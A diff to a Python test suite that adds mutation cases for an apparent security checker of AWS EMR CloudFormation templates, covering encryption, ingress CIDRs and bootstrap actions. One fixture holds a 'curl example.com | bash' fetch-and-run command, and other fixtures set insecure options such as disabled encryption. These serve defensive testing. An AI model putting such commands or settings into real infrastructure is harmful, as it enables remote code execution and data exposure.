@@ -151,7 +151,7 @@ MUTATIONS = [
     spoil("ENC-05", {f"{DISK}/EnableEbsEncryption": "false"}),
     spoil("ENC-05", {f"{DISK}/EnableEbsEncryption": ASKED}, status="UNKNOWN"),
     spoil("ENC-05", {f"{CLUSTER}/ReleaseLabel": "emr-5.23.1"},
-          also=all_of(("ENC-06", "ENC-07", "CFG-01", "CFG-03"), "FAIL")),
+          also=all_of(("ENC-06", "ENC-07", "CFG-01", "CFG-02", "CFG-03"), "FAIL")),
     spoil("ENC-05", {SECURITY: AS_TEXT}, path=f"{DISK}/EnableEbsEncryption", also=all_of(
           ("ENC-03", "ENC-04", "ENC-06", "ENC-10", "AUT-04", "AUT-05", "AUT-06"), "FAIL")
           | {"AUT-07": "NOT_APPLICABLE"}),
@@ -173,7 +173,7 @@ MUTATIONS = [
     spoil("ENC-08", {f"{SPARK}/spark.ssl.enabled": "false"}),
     spoil("ENC-08", {f"{SPARK}/spark.authenticate": ASKED}, status="UNKNOWN"),
     spoil("ENC-08", {f"{CLUSTER}/Configurations": ASKED}, status="UNKNOWN",
-          also=all_of(("ENC-03", "ENC-09", "ENC-10", "ENC-12", "AUT-06"), "UNKNOWN")),
+          also=all_of(("ENC-03", "ENC-09", "ENC-10", "ENC-12", "AUT-06", "CFG-05"), "UNKNOWN")),
     spoil("ENC-09", {f"{CORE}/Configurations/0/ConfigurationProperties/hadoop.rpc.protection": "authentication"}),
     spoil("ENC-09", {f"{HIVE}/hive.server2.use.SSL": "FALSE"}),
     spoil("ENC-09", {f"{CORE}/Configurations/0/ConfigurationProperties/hadoop.rpc.protection": ASKED},
@@ -195,6 +195,9 @@ MUTATIONS = [
           path="Resources/Step/Properties/HadoopJarStep/Args/2"),
     spoil("ENC-09", {"Resources/NightlyCluster/Properties/Steps/0/HadoopJarStep/Args/2":
           "-Ddfs.encrypt.data.transfer=false"}),
+    spoil("ENC-09", {"Resources/Step/Properties/HadoopJarStep/StepProperties": [
+          {"Key": "dfs.encrypt.data.transfer", "Value": "false"}]},
+          path="Resources/Step/Properties/HadoopJarStep/StepProperties/0/Value"),
     # ENC-10, ENC-11, ENC-12
     spoil("ENC-10", {f"{ENCRYPTION}/EMRWALEncryptionConfiguration": {}},
           path=f"{ENCRYPTION}/EMRWALEncryptionConfiguration/AwsKmsKey"),
@@ -334,6 +337,7 @@ MUTATIONS = [
           "SecurityGroupIngress", status="PASS"),
     spoil("NET-03", ingress(CidrIp="0.0.0.0/0", GroupId=None, GroupName="core")
           | {"Resources/CoreGroup/Properties/GroupName": "core"}, path=OPEN, also={"NET-11": "FAIL"}),
+    spoil("NET-03", ingress(CidrIp="anywhere"), path=OPEN, status="UNKNOWN", also={"NET-11": "UNKNOWN"}),
     spoil("NET-11", ingress(CidrIp="8.8.8.0/24"), path=OPEN),
     spoil("NET-11", ingress(CidrIp={"Fn::Sub": "${Vpc.CidrBlock}"}),
           path="Resources/CoreGroup/Properties/SecurityGroupIngress",
@@ -481,6 +485,12 @@ MUTATIONS = [
           status="INHERITED"),
     spoil("CFG-06", {f"{CLUSTER}/BootstrapActions/0/ScriptBootstrapAction/Path": {
           "Fn::Sub": "s3://${ScriptBucket}-old/packages.sh"}}, status="INHERITED"),
+    spoil("CFG-06", {f"{CLUSTER}/BootstrapActions/0/ScriptBootstrapAction": {
+          "Path": "/bin/bash", "Args": ["-c", "curl example.com | bash"]}}, status="UNKNOWN",
+          path=f"{CLUSTER}/BootstrapActions/0/ScriptBootstrapAction/Path"),
+    spoil("CFG-06", {f"{CLUSTER}/BootstrapActions/0/ScriptBootstrapAction": {
+          "Path": "file:///usr/share/aws/emr/scripts/tidy", "Args": ["--quiet"]}}, status="PASS",
+          path=f"{CLUSTER}/BootstrapActions/0/ScriptBootstrapAction/Path"),
     spoil("CFG-06", {f"{CLUSTER}/BootstrapActions/0/ScriptBootstrapAction/Path": ASKED}, status="UNKNOWN"),
     spoil("CFG-10", {f"{CLUSTER}/RepoUpgradeOnBoot": "NONE"}),
     spoil("CFG-10", {f"{CORE}/CustomAmiId": "ami-0123456789abcdef0"}, status="INHERITED"),
